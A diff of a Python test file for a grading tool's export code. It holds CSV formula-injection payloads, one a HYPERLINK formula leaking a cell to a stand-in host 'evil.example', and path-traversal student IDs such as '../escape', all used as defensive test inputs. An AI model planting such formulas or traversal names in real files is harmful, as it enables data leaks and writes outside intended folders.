@@ -206,7 +206,7 @@ def test_feedback_markdown_and_html():
 
 # ----------------------------------------------------------------------------- formulas in every CSV
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"grade")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tx", "\rx"]
+ATTACKS = ['=HYPERLINK("evil.example?leak="&A1,"grade")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tx", "\rx"]
 
 
 @pytest.mark.parametrize("text", ATTACKS)
@@ -244,3 +244,10 @@ def test_exports_are_a_function_of_the_rows(tmp_path):
 def test_canvas_without_a_roster_is_refused():
     with pytest.raises(exports.ExportError, match="--roster"):
         exports.Settings(("canvas",)).check()
+
+
+@pytest.mark.parametrize("student", ["../escape", ".hidden", "a/b"])
+def test_student_ids_never_name_files_outside_the_exports(tmp_path, student):
+    with pytest.raises(exports.ExportError, match="cannot name a file"):
+        exports.write_exports(tmp_path / "out", [perfect(student, EX2)], exports.Settings(("feedback",)))
+    assert not (tmp_path / "escape.md").exists() and not (tmp_path / "out").exists()
